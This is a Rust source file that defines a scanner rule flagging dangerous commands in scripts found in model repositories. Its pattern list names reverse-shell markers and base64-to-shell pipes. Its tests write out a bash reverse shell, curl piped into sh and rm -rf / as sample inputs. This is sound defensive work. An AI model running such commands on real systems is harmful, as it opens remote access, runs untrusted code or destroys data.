//! CFG006: a script downloads and runs code, opens a reverse shell, decodes
//! and runs a payload, or wipes the file system.

use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

use crate::rules::safetensors::metadata_payloads::code_hits;

pub static RULE: RuleMeta = RuleMeta {
    code: "CFG006",
    name: "script-dangerous-command",
    family: super::FAMILY,
    default_severity: Severity::High,
    category: Category::OsCommandExecution,
    scanner: "script",
    cwe: Some("CWE-78"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "A script pipes a download into an interpreter, decodes base64 into a shell or opens a reverse shell (CRITICAL), or downloads and marks files executable, wipes `/`, or evaluates Python (HIGH).",
    remediation: "Do not run the script; install what it needs from a package manager.",
    docs: r#"## What it does
Reads scripts (`#!` interpreter line, `.sh`) line by line for `curl`/`wget`
output piped into `sh`/`bash`/`python`/… and `base64 -d | sh` (CRITICAL),
reverse shells (`/dev/tcp/`, `bash -i`, `nc -e`, `mkfifo`: CRITICAL),
`chmod +x` in a script that also downloads, `rm -rf /` and `rm -rf ~`,
PowerShell encoded commands, and Python code run by the script (HIGH).

## Why is this bad?
Setup and launch scripts in model repositories are run by hand or by
serving images. A download piped into a shell runs whatever the server
sends that day.

## Example
```sh
#!/bin/sh
curl -fsSL http://example.invalid/install.sh | sh
```

## How to fix
Install dependencies from pinned packages; review the script.

## References
- https://attack.mitre.org/techniques/T1059/004/
- CWE-78: OS Command Injection
"#,
};

/// Patterns that run fetched or hidden code, or open a shell to a remote host.
const CRITICAL: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "bash -i",
    "nc -e",
    "ncat -e",
    "nc -c",
    "mkfifo /",
    "base64 -d |",
    "base64 --decode |",
    "| base64 -d",
];
/// Patterns that are ordinary in scripts (a script is shell already).
const ORDINARY: &[&str] = &["bash -c", "sh -c", "zsh -c", "cmd /c"];

/// Checks a script's text; returns whether anything was reported.
pub fn check(text: &str, location: &Location, out: &mut Vec<Finding>) -> bool {
    let lower = text.to_ascii_lowercase();
    let downloads = ["curl ", "wget ", "invoke-webrequest"]
        .iter()
        .any(|f| lower.contains(f));
    let mut found = Vec::new();
    let mut offset = 0u64;
    for (n, line) in text.split_inclusive('\n').enumerate() {
        let at = offset;
        offset = offset.saturating_add(line.len() as u64);
        let body = line.trim();
        if body.starts_with('#') {
            continue;
        }
        for hit in code_hits(line) {
            let p = hit.pattern.as_str();
            if ORDINARY.contains(&p) || (p == "chmod +x" && !downloads) {
                continue;
            }
            if p.starts_with("rm -rf") && !wipes_root(&line.to_ascii_lowercase()) {
                continue;
            }
            let severity = if p.contains(" | ") || CRITICAL.contains(&p) {
                Severity::Critical
            } else {
                Severity::High
            };
            let lineno = n.saturating_add(1);
            found.push(
                Finding::new(
                    &RULE,
                    location.at(at),
                    format!("Line {lineno}: script runs `{p}`"),
                )
                .severity(severity)
                .description(format!(
                    "Line {lineno} of the script matches `{p}`: `{}`.",
                    hit.excerpt
                ))
                .evidence("line", lineno)
                .evidence("pattern", p)
                .evidence("excerpt", hit.excerpt.as_str()),
            );
        }
    }
    let any = !found.is_empty();
    super::capped(&RULE, found, location, out);
    any
}

/// `rm -rf /` or `rm -rf ~` on its own (not `/tmp/build`).
fn wipes_root(line: &str) -> bool {
    ["rm -rf /", "rm -rf ~"].iter().any(|p| {
        line.match_indices(p).any(|(at, _)| {
            let next = line.as_bytes().get(at.saturating_add(p.len())).copied();
            matches!(next, None | Some(b' ' | b'\n' | b'\r' | b'*' | b';' | b'/'))
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sev(text: &str) -> Vec<Severity> {
        let mut out = Vec::new();
        check(text, &Location::file("x.sh"), &mut out);
        out.iter().map(|f| f.severity).collect()
    }

    #[test]
    fn graded() {
        assert_eq!(
            sev("#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n"),
            [Severity::Critical]
        );
        assert_eq!(sev("echo aGk= | base64 -d | sh\n"), [Severity::Critical]);
        assert_eq!(
            sev("bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n"),
            [Severity::Critical]
        );
        assert_eq!(
            sev("wget http://127.0.0.1:9/x -O x\nchmod +x x\n"),
            [Severity::High]
        );
        assert_eq!(sev("rm -rf /\n"), [Severity::High]);
        for benign in [
            "rm -rf /tmp/build\n",
            "chmod +x run.sh\n",
            "bash -c 'echo hi'\n",
            "# curl x | sh\n",
        ] {
            assert_eq!(sev(benign), [], "{benign}");
        }
    }
}
